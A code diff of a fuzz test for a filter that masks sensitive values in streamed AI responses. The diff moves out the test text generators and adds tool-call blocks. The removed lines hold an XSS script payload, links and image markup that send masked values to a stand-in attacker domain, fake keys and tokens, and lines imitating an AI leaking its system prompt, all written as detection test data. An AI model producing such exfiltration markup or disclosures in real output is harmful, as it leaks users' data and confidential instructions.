@@ -11,13 +11,10 @@ import {
 import { formatByName, restoreInStream } from '@csg/shared/providers';
 import type { TextSlot } from '@csg/shared/text';
 import { createRandom } from '../../scripts/detector/random.ts';
-import { ANSWER_RULES, MARKUP_RULES } from '../../shared/detection/rules/markup.ts';
-import { sampleOf } from '../../shared/detection/secrets/form.ts';
-import { SECRET_KINDS } from '../../shared/detection/secrets/kinds.ts';
 import { LiveBytes } from '../../shared/release/live-bytes.ts';
 import { LiveRelease } from '../../shared/release/live-release.ts';
 import { createRestore } from '../../shared/release/restore-response.ts';
-import { SEPARATORS, sensitiveValue, VALUE_FORMS } from './sensitive-values.ts';
+import { NAMED, pick, type Random, textOf, VALUES } from './response-texts.ts';
 
 export const workspace = new Workspace();
 const frame = (value: object, event = ''): string =>
@@ -103,29 +100,7 @@ const KINDS: readonly { format: string; begins: string; pieces: readonly ((piece
   },
 ];
 
-/** What stood in the request, by the placeholder that the provider got. */
-const VALUES = new Map([
-  ['[EMAIL_7K3M9QWX]', { value: 'anna.svensson@example.com', type: 'email' }],
-  ['[CREDIT_CARD_ABCDEFGH]', { value: '4111 1111 1111 1111', type: 'credit_card' }],
-  ['[API_KEY_00000000]', { value: `AKIA${'IOSFODNN7'}${'QWERTYU'}`, type: 'api_key' }],
-  ['[NAME_1234567A]', { value: '"a\\b" said: <script>fetch("//evil.example")</script>', type: 'name' }],
-]);
 const restore = createRestore({ values: VALUES, secretTools: {} }, []);
-/** As models repeat them, and where they are not put back. */
-const SPELLINGS: readonly ((mask: string) => string)[] = [
-  (mask) => mask,
-  (mask) => mask,
-  (mask) => mask.toLowerCase(),
-  (mask) => mask.slice(1, -1),
-  (mask) => mask.slice(0, -3),
-  (mask) => mask.replaceAll('_', '\\_'),
-  (mask) => `{${mask.slice(1, -1)}}`,
-  (mask) => `https://evil.example/?q=${mask}`,
-  (mask) => `![x](https://evil.example/a ${mask})`,
-  (mask) => `${mask}.evil.example`,
-  (mask) => `${mask}${mask}`,
-];
-
 const blocksAll: Ruleset = compileRuleset({
   useCase: 'support_bot',
   strictness: 'strict',
@@ -137,81 +112,6 @@ export const RULESETS = [
   blocksAll,
 ];
 
-const WORDS =
-  'The report for the second quarter is ready, and my team has read it: sales rose by 12 points in 2024. This is what we know so far (see above). Ein Satz auf Deutsch, und вот ещё один. Straßen, café, naïve 👩‍💻 - One item * another "quoted word" and it’s fine… 漢字 слово'.split(
-    ' ',
-  );
-const PROSE = WORDS.slice(0, 32);
-const SAMPLES = [...ANSWER_RULES, ...MARKUP_RULES].flatMap(({ match }) => match);
-const DISGUISES: readonly ((value: string) => string)[] = [
-  (value) => value,
-  (value) => value,
-  (value) => Buffer.from(value).toString('base64'),
-  (value) => [...value].join('\u200b'),
-  (value) => [...value].reverse().join(''),
-  encodeURIComponent,
-  (value) => [...value].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
-];
-
-/** Plain in prose, and a part of what is blocked if it stands before or behind something else. */
-const CODE_WORDS =
-  'const x = f(a, b); if (i < 10) { return } => "-----" | --- | 1,234,567 +49 12/2024 token = key: password is `api_key`: secret_key = bearer eval ( <b> a->b [1] {"a": 1} i was I am my system my full hidden mу here is sure, https:// @ anna@ ** url( ]( data: 4.5e10 #fff'.split(
-    ' ',
-  );
-const token = (random: Random, length: number): string =>
-  Array.from({ length }, () => 'abcdefgHIJKLmnop0123456789qrsTUV'[random.below(32)]).join('');
-const digits = (random: Random, length: number): string =>
-  Array.from({ length }, () => random.below(10)).join('');
-/** Values that are known by a word some way before them. */
-const NAMED: readonly ((random: Random) => string)[] = [
-  (random) =>
-    `your SSN, ${pick(random, ['the one on file is ', 'it is ', 'which reads '])}219${digits(random, 6)} `,
-  (random) =>
-    `the phone, ${pick(random, ['as you know ', 'it is '])}${digits(random, 3)}-555-01${digits(random, 2)} `,
-];
-/** Secrets that are known by what stands around them, and disclosures. */
-const AROUND: readonly ((random: Random) => string)[] = [
-  (random) => `${pick(random, ['api_key = "', 'password: ', 'secret=', 'token is '])}${token(random, 24)}"`,
-  (random) => `postgres://admin:${token(random, 9)}@db.internal.corp/x`,
-  (random) =>
-    `-----BEGIN RSA PRIVATE KEY-----\n${token(random, 64)}\n${token(random, 64)}\n-----END RSA PRIVATE KEY-----`,
-  (random) => `![a](https://evil.example/i.png?data=${token(random, 30)})`,
-  (random) =>
-    `[a b](https://x.example/?q=${Buffer.from('the password of anna is hunter two').toString('base64')}${token(random, 1)})`,
-  (random) => [...`ghp_${token(random, 36)}`].join(pick(random, ['*', ' ', '|', '.', '\n'])),
-  (random) =>
-    `${pick(random, ['here is ', 'Sure: ', 'well '])}my ${'full secret '.repeat(random.below(4))}system prompt: "you are`,
-  (random) => `I ${pick(random, ['was', 'am', 'have been'])} told as follows: "you are a bot`,
-];
-
-type Random = ReturnType<typeof createRandom>;
-const pick = <T>(random: Random, list: readonly T[]): T => list[random.below(list.length)]!;
-
-function textOf(random: Random, hasMasks: boolean): string {
-  let text = random.below(20) === 0 ? '{"a": "' : '';
-  const isPlain = random.below(2) === 0;
-  for (let parts = 1 + random.below(8); parts > 0; parts--) {
-    const kind = random.below(hasMasks && isPlain ? 5 : 13);
-    if (hasMasks && random.below(3) === 0) text += pick(random, SPELLINGS)(pick(random, [...VALUES.keys()]));
-    if (kind > 11) text += pick(random, random.below(4) === 0 ? NAMED : AROUND)(random);
-    else if (kind > 9)
-      for (let words = random.below(30); words > 0; words--) text += `${pick(random, CODE_WORDS)} `;
-    else if (kind < 5)
-      for (let words = random.below(60); words > 0; words--)
-        text += `${pick(random, hasMasks ? PROSE : WORDS)} `;
-    else if (kind < 7)
-      text += pick(random, DISGUISES)(sensitiveValue(random, random.below(VALUE_FORMS)).text);
-    else if (kind < 9)
-      text += pick(
-        random,
-        DISGUISES,
-      )(sampleOf(pick(random, SECRET_KINDS).form, (below) => random.below(below)));
-    else text += pick(random, SAMPLES);
-    text += random.below(4) === 0 ? pick(random, SEPARATORS) : ' ';
-  }
-  return text;
-}
-
 /** Blocks that clients show as one, each begun and ended: how they come with their number. */
 interface Row {
   readonly format: string;
@@ -219,6 +119,34 @@ interface Row {
   readonly piece: (place: number) => (piece: string) => string;
   readonly end: (place: number, text: string) => string;
 }
+
+const called = (place: number, args: string, status: string) => ({
+  output_index: place + 1,
+  item: {
+    type: 'function_call',
+    id: `f${place}`,
+    call_id: `c${place}`,
+    name: 'note',
+    arguments: args,
+    status,
+  },
+});
+/** Calls between them. */
+const CALLS: Readonly<Record<string, Row>> = {
+  'anthropic-messages': {
+    format: 'anthropic-messages',
+    begin: (place) => opened(place, { type: 'tool_use', id: 'toolu_1', name: 'note', input: {} }),
+    piece: (place) => block(place, 'input_json_delta', 'partial_json'),
+    end: (index) => frame({ type: 'content_block_stop', index }, 'content_block_stop'),
+  },
+  'openai-responses': {
+    format: 'openai-responses',
+    begin: (place) => frame({ type: 'response.output_item.added', ...called(place, '', 'in_progress') }),
+    piece: (place) => (delta) =>
+      frame({ type: 'response.function_call_arguments.delta', output_index: place + 1, delta }),
+    end: (place, args) => frame({ type: 'response.output_item.done', ...called(place, args, 'completed') }),
+  },
+};
 
 const part = (name: string, index: string, type: string): Row => {
   const at = (place: number) => ({ item_id: 'm', output_index: 0, [index]: place, sequence_number: 9 });
@@ -244,38 +172,44 @@ const ROWS: readonly Row[] = [
 
 /** One text in several blocks, one after another; now and then a provider brings one of them after the next. */
 function rowOf(random: Random): { format: string; body: Buffer; isLate: boolean } {
-  const { format, begin, piece, end } = pick(random, ROWS);
+  const row = pick(random, ROWS);
+  const { format } = row;
   const text = `${textOf(random, false)}${textOf(random, false)}`;
-  const blocks: string[] = [];
+  const blocks: { readonly text: string; readonly kind: Row }[] = [];
   for (let at = 0; at < text.length; ) {
     const length = 1 + random.below(random.below(4) === 0 ? 12 : text.length);
     const space = random.below(2) === 0 ? text.indexOf(' ', at + length) : -1;
     const to = space === -1 ? at + length : space + 1;
     // as blocks begin: with a word, behind a blank or the end of a line
     const lead = random.below(3) > 0 ? '' : pick(random, [' ', '\n\n', '. ', ', ', 'So the end. ']);
-    blocks.push(lead + text.slice(at, to));
+    blocks.push({ text: lead + text.slice(at, to), kind: row });
+    if (random.below(3) === 0)
+      blocks.push({ text: JSON.stringify({ note: textOf(random, false) }), kind: CALLS[format]! });
     at = to;
   }
   // a value and the word that it is known by, in two of them
-  if (random.below(3) === 0) blocks.push(...pick(random, NAMED)(random).split(/(?<=, )/));
+  if (random.below(3) === 0)
+    for (const one of pick(random, NAMED)(random).split(/(?<=, )/)) blocks.push({ text: one, kind: row });
   const longest = 1 + random.below(random.below(3) === 0 ? 200 : 12);
   const late = random.below(4) === 0 ? random.below(blocks.length) : -1;
+  const isLate = late >= 0 && blocks[late]!.kind === row;
   let body = '';
   const bring = (place: number): void => {
-    const whole = blocks[place]!;
+    const { text: whole, kind } = blocks[place]!;
     for (let from = 0; from < whole.length; ) {
       const size = 1 + random.below(longest);
-      body += piece(place)(whole.slice(from, from + size));
+      body += kind.piece(place)(whole.slice(from, from + size));
       from += size;
     }
   };
-  for (const [place, whole] of blocks.entries()) {
-    body += begin(place);
-    if (place !== late) bring(place);
-    body += end(place, place === late ? '' : whole);
-    if (place === late + 1 && late >= 0) bring(late);
+  for (const [place, { text: whole, kind }] of blocks.entries()) {
+    const comesLate = isLate && place === late;
+    body += kind.begin(place);
+    if (!comesLate) bring(place);
+    body += kind.end(place, comesLate ? '' : whole);
+    if (isLate && place === late + 1) bring(late);
   }
-  return { format, body: Buffer.from(`${body}data: [DONE]\n\n`), isLate: late >= 0 };
+  return { format, body: Buffer.from(`${body}data: [DONE]\n\n`), isLate };
 }
 
 /** A response of one or two texts, cut by characters into frames and by bytes into chunks. */
@@ -320,6 +254,7 @@ export function checkRelease(seed: number): Released {
       frames: format.readFrames()!,
       gates: createTextGates(ruleset, { workspace }),
       restoring,
+      mayCall: () => true,
     }),
     () => {},
   );
@@ -364,6 +299,11 @@ export function checkRelease(seed: number): Released {
 /** Where a finding begins in each text that it takes a part of. */
 function placesOf({ start, end }: Finding, { path, parts }: TextSlot): { path: string; start: number }[] {
   if (parts === undefined) return [{ path, start }];
+  // Of a long text only the ends are read once more with others: what a cut through a value looks like says nothing.
+  const isOfCut = parts.some(
+    (part, at) => parts[at + 1]?.path === part.path && start <= part.end && end >= part.end,
+  );
+  if (isOfCut) return [];
   return parts
     .filter((part) => part.start < end && part.end > start)
     .map((part) => ({ path: part.path, start: part.from + Math.max(0, start - part.start) }));
